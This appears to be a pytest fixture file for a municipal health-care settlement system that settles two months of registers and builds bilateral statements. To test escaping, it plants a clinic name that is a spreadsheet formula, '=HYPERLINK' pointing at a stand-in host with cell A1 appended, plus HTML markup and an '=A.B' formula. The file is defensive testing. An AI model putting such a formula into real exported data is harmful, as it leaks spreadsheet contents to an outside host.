"""Two months of both registers, settled in turn, with corrections, visits signed off, and a clinic with an evil name."""

from pathlib import Path

import duckdb
import polars as pl
import pytest

from flows.facts import SHIPPED
from flows.home import Home
from flows.month import SettlementMonth
from flows.settle_month import Order, settle_month
from flows.statements.bilateral.building import build_bilateral
from flows.statements.bilateral.gathering import gather_bilateral
from flows.statements.gathering import read_settled
from flows.statements.making import make_statements
from tests.flows.year import Year
from tests.municipal import municipal_tables, write_municipal

MONTH = SettlementMonth(2007, 2)
EVIL = '=HYPERLINK("http://x.example/?"&A1;"Klinik") <b>&amp;*_#'
"""A clinic's name that is a formula, a tag and markup."""

COURSES = """
    patient | municipality | institution | number_kind | institution_municipality | plan_issued_on | ended_on
    1       | 0101         | GK0101      | sor         | 0101                     | 2007-01-02     |
    2       | 0147         | GK0101      | sor         | 0101                     | 2007-01-02     |
    3       | 0101         | GK0147      | sor         | 0147                     | 2007-01-02     |
    4       | 0101         | GP1084      | yder        | 0101                     | 2007-01-02     |
    5       | {moves}      | GK0751      | sor         | 0751                     | 2007-01-02     |
    6       | 0615         | GK0751      | sor         | 0751                     | 2007-01-02     |
    7       | 0810         | GK0851      | sor         | 0851                     | 2007-01-02     | 2007-02-20
"""
"""Own production, neighbours both ways, a clinic, no agreement with one who moves, 10 per cent less, a price per course."""

JANUARY = """
    course_id | service_on | minutes   | travel_minutes | consultation
    1         | 2007-01-08 | 45        |                |
    2         | 2007-01-08 | {minutes} | 20             |
    3         | 2007-01-09 | 50        |                |
    4         | 2007-01-10 | 45        |                | foerste
    5         | 2007-01-11 | 45        |                |
    6         | 2007-01-12 | 45        |                |
    7         | 2007-01-15 | 45        |                |
"""
FEBRUARY = """
    2         | 2007-02-05 | 40        |                |
    2         | 2007-02-07 | 31        |                |
    3         | 2007-02-06 | 45        |                |
    3         | 2007-02-05 | 45        |                |
    4         | 2007-02-12 | 45        |                | normal
    4         | 2007-02-14 | 45        |                | kort
    5         | 2007-02-08 | 45        |                |
    5         | 2007-02-09 | 45        |                |
    6         | 2007-02-12 | 45        |                |
    7         | 2007-02-15 | 45        |                |
"""

DECISIONS = ("G:5:2007-02-08 accepted 350.00", "G:5:2007-01-11 refused ", "G:5:2007-02-09 accepted ")
"""What is signed off before February is settled: visits of the month, and one of the month before."""


class SettledBilaterally:
    """A home with two settled months of both registers and the statements of the last."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.home = folder, Home(folder / "home")
        self.facts, self.year = write_facts(folder / "facts-january"), Year(folder, 300)
        self.settle("2007-01", self.year.deliver(1))
        self.settle("2007-01", self.deliver("2007-01", "2007-01-31", JANUARY, moves="0101", minutes="45"))
        hospitals = self.query(
            "SELECT event_id FROM bilateral_visits WHERE standing = 'no_agreement' AND register_name = 'lpr2' ORDER BY 1"
        )
        self.facts = write_facts(folder / "facts", (*DECISIONS, *(f"{event} accepted 99.50" for (event,) in hospitals)))
        self.settle("2007-02", self.year.deliver(2))
        later = self.deliver("2007-02", "2007-02-28", JANUARY + FEBRUARY, moves="0147", minutes="60")
        self.settle("2007-02", later)
        with self.home.held("test"):
            self.made = make_statements(self.home, MONTH, "provisional")

    def settle(self, month, delivery, **more):
        return settle_month(Order(month, delivery, self.home.folder, self.facts, is_verified=False, **more))

    def deliver(self, month, last, services, **changing):
        folder = self.folder / f"ges-{month}"
        folder.mkdir()
        tables = municipal_tables(COURSES.format(**changing), services.format(**changing), "service_id\n4")
        return write_municipal(folder, tables, period=f"2007-01-01 {last}")

    def query(self, sql):
        with duckdb.connect(str(self.home.marts), read_only=True) as marts:
            return marts.execute(sql).fetchall()

    def paths(self, ending):
        return sorted(self.made.folder.glob(f"bilateral-*.{ending}"))


def write_facts(folder: Path, decisions: tuple[str, ...] = ()) -> Path:
    """The shipped facts, with a clinic whose name is a formula, and with decisions."""
    folder.mkdir()
    for path in SHIPPED.glob("*.csv"):
        rows = pl.read_csv(path, infer_schema=False)
        if path.name == "institutions.csv":
            name = pl.when(pl.col("institution") == "GP1084").then(pl.lit(EVIL)).otherwise("name")
            rows = rows.with_columns(name.alias("name"))
        if path.name == "decisions.csv" and decisions:
            rows = pl.DataFrame(list(map(decide, decisions)), schema=rows.columns, orient="row")
        rows.write_csv(folder / path.name)
    return folder


def decide(written: str) -> list[str | None]:
    """A row of decisions.csv, from event, decision and kroner."""
    event, decision, kroner = written.split(" ")
    return [event, decision, "=A.B", f"{EVIL} og aftalt", kroner or None, "2007-02-20", None, "assumed", "test", None]


@pytest.fixture(scope="session")
def bilateral(tmp_path_factory) -> SettledBilaterally:
    return SettledBilaterally(tmp_path_factory.mktemp("bilateral"))


@pytest.fixture(scope="session")
def gathered(bilateral):
    return gather_bilateral(bilateral.home, MONTH, "provisional", read_settled(bilateral.home, MONTH, "provisional"))


@pytest.fixture(scope="session")
def statements(gathered):
    return build_bilateral(gathered)
